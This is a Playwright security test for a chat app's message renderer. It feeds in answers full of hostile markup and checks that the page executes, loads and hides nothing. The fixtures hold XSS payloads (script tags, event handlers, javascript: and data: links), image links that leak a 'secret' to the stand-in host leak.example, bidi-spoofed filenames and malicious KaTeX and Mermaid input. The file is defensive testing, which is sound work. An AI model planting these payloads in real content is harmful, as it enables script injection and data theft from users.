import { expect, type Page } from '@playwright/test';

import { importConversation } from './support/import-conversation.ts';
import { sharedVigia } from './support/shared-vigia.ts';
import { test } from './support/test.ts';
import { watchPage } from './support/watch-page.ts';

const { url } = sharedVigia();
const elsewhere = 'https://leak.example';

const markup = [
  '<script>alert(1)</script>',
  `<script src="${elsewhere}/a.js"></script>`,
  `<img src="${elsewhere}/a.png" onerror="alert(1)">`,
  `<iframe src="${elsewhere}"></iframe> <object data="${elsewhere}"></object>`,
  `<style>@import "${elsewhere}/a.css"; body { display: none }</style>`,
  `<link rel="stylesheet" href="${elsewhere}/a.css"> <base href="${elsewhere}/">`,
  `<meta http-equiv="refresh" content="0; url=${elsewhere}">`,
  `<form action="${elsewhere}"><input name="a" autofocus onfocus="alert(1)"><button>Send</button></form>`,
  '<svg onload="alert(1)"><a href="javascript:alert(1)"><text>x</text></a></svg>',
  '<details open ontoggle="alert(1)">x</details>',
].join('\n\n');

const addresses = [
  '[a](javascript:alert(1))',
  '[b](JaVa&#10;ScRiPt:alert(1))',
  '[c](data:text/html,<script>alert(1)</script>)',
  '[d](vbscript:x) [e](file:///etc/passwd) [f](/api/conversations) [g](//leak.example)',
  `![picture](${elsewhere}/leak.png?what=secret)`,
  `[![linked](${elsewhere}/leak.png)](javascript:alert(1))`,
  `![reference][r]\n\n[r]: ${elsewhere}/leak.png`,
  '![svg](data:image/svg+xml,<svg/onload=alert(1)>)',
].join('\n\n');

const deceptions = 'access\u202Etxt.exe\u202C and \u2066isolated\u2069 `code\u202Eedoc`';

const formulas = [
  '$\\href{javascript:alert(1)}{click}$',
  `$\\includegraphics{${elsewhere}/leak.png}$`,
  '$\\htmlStyle{position: fixed; inset: 0}{x}$',
  '$\\rule{9999em}{9999em}$',
  '$\\def\\a{\\a\\a}\\a$',
].join('\n\n');

const fence = (source: string) => `\`\`\`mermaid\n${source}\n\`\`\``;
const diagrams = [
  fence('flowchart LR\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A "javascript:alert(1)"'),
  fence(`flowchart LR\n  A@{ img: "${elsewhere}/leak.png", label: "x" }`),
  fence(
    `%%{init: {"securityLevel": "loose", "themeCSS": "@import url(${elsewhere}/a.css); rect { fill: url(${elsewhere}/b) }"}}%%\nflowchart LR\n  C --> D`,
  ),
  fence('flowchart LR\n  A["<script>alert(1)</script>"] --> B["<iframe srcdoc=x>"]'),
].join('\n\n');

const line = 'endless '.repeat(25_000);

const turns = [
  { question: 'Markup?', answer: markup },
  { question: 'Addresses?', answer: addresses },
  { question: 'Deceptions?', answer: deceptions },
  { question: 'A line?', answer: line },
  { question: 'A word?', answer: 'x'.repeat(200_000) },
  { question: 'Formulas?', answer: formulas },
  { question: 'Diagrams?', answer: diagrams },
];

/** Until every earlier message was read: they come as one scrolls up. */
async function readAll(page: Page, count: number): Promise<void> {
  const answers = page.getByRole('log').getByRole('article', { name: 'Answer', exact: true });
  await expect(answers.first()).toBeAttached();
  await expect
    .poll(
      async () => {
        await page.getByRole('log').evaluate((log) => log.scrollIntoView({ block: 'start' }));
        return answers.count();
      },
      { timeout: 60_000 },
    )
    .toBe(count);
}

for (const width of [1280, 360]) {
  test(`a hostile answer runs, loads and hides nothing at ${width} px`, async ({ browser }) => {
    const context = await browser.newContext({ viewport: { width, height: 760 } });
    const page = await context.newPage();
    const faults = await watchPage(page, url);
    const id = await importConversation(context.request, url, 'Hostile', turns);
    await page.goto(`${url}/c/${id}`);
    await readAll(page, turns.length);
    const log = page.getByRole('log');
    await expect(log.locator('.katex').first()).toBeAttached();
    // All that can be drawn is drawn: as images, out of which nothing reaches.
    const drawings = log.getByRole('img', { name: 'Diagram' });
    await expect.poll(() => drawings.count(), { timeout: 60_000 }).toBeGreaterThanOrEqual(3);

    // What the model wrote stands there as text.
    await expect(log).toContainText('<script>alert(1)</script>');
    await expect(log).toContainText('accessU+202Etxt.exeU+202C and U+2066isolatedU+2069');
    expect(await log.evaluate((element) => element.textContent)).not.toMatch(/[\u202a-\u202e]/);
    await expect(
      log.locator(':is(script, iframe, object, form, input, style, link, base)'),
    ).toHaveCount(0);
    const images = await log
      .locator('img')
      .evaluateAll((all: HTMLImageElement[]) => all.map(({ src }) => src.slice(0, 19)));
    expect(new Set(images)).toEqual(new Set(['data:image/svg+xml;']));
    const protocols = await log
      .locator('a')
      .evaluateAll((all: HTMLAnchorElement[]) => all.map(({ protocol }) => protocol));
    expect(new Set(protocols)).toEqual(new Set(['https:']));
    const endless = log.getByRole('article', { name: 'Answer', exact: true }).nth(3);
    // What is not read first is drawn later: every character of it.
    const content = endless.locator('[data-part="content"]');
    await expect
      .poll(() => content.evaluate((part, whole) => part.textContent.trim() === whole, line.trim()))
      .toBe(true);

    // The page is whole, no wider than it was, and answers at once.
    const scrollWidth = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(scrollWidth).toBeLessThanOrEqual(width);
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill('Still here');
    await expect(box).toHaveValue('Still here');
    expect(new URL(page.url()).pathname).toBe(`/c/${id}`);
    expect(faults.foreign).toEqual([]);
    expect(faults.surprises).toEqual([]);
    // The one thing that only the policy stops: the image that Mermaid itself would measure.
    expect(faults.violations.filter((violation) => !violation.startsWith('img-src'))).toEqual([]);
    await context.close();
  });
}
